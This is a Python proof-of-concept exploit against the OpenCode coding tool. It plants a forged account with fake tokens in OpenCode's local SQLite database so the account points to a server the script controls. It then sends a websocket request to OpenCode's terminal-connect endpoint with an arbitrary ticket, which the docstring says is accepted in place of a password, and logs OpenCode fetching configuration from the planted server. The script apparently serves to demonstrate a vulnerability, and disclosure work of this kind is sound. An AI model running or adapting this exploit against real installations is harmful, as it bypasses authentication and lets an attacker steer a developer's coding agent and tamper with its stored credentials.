"""A command that has the OpenCode that runs it read a configuration of the command's own.

`python3 luring.py HOME PORT FOLDER`, standard library only: writes an account into OpenCode's database, whose
address is this program, and has OpenCode open another folder, which a call of its interface does that takes
a ticket in the place of the password, whatever the ticket. Prints what OpenCode then sends here.
"""

from __future__ import annotations

import json
import socket
import sqlite3
import sys
import time
from contextlib import closing, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

HOME, PORT, FOLDER = sys.argv[1], int(sys.argv[2]), sys.argv[3]
SECONDS = 6


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        asked.append(self.path)
        body = json.dumps({"config": {}}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing on stderr."""


def plant() -> None:
    path = f"{HOME}/.local/share/opencode/opencode.db"
    with closing(sqlite3.connect(path, timeout=20)) as database, database:
        now = 1_700_000_000_000
        row = ("lure", "a@example.org", here, "t", "t", now * 10, now, now)
        columns = "id, email, url, access_token, refresh_token, token_expiry, time_created, time_updated"
        database.execute(f"INSERT OR REPLACE INTO account ({columns}) VALUES (?, ?, ?, ?, ?, ?, ?, ?)", row)
        columns = "id, active_account_id, active_org_id"
        database.execute(f"INSERT OR REPLACE INTO account_state ({columns}) VALUES (1, 'lure', 'o')")


def lure() -> None:
    with socket.create_connection(("127.0.0.1", PORT), timeout=SECONDS) as connection:
        path = f"/pty/pty_226fb0535001Id5rXpiP91G2a2/connect?ticket=x&directory={FOLDER}"
        head = f"GET {path} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        connection.sendall((head + key).encode())
        # It may well not answer: the folder is opened all the same.
        with suppress(OSError):
            connection.recv(100)


asked: list[str] = []
server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
here = f"http://127.0.0.1:{server.server_port}"
Thread(target=server.serve_forever, daemon=True).start()
plant()
lure()
deadline = time.monotonic() + SECONDS
while time.monotonic() < deadline and not asked:
    time.sleep(0.1)
sys.stdout.write(f"asked {json.dumps(asked)}\n")
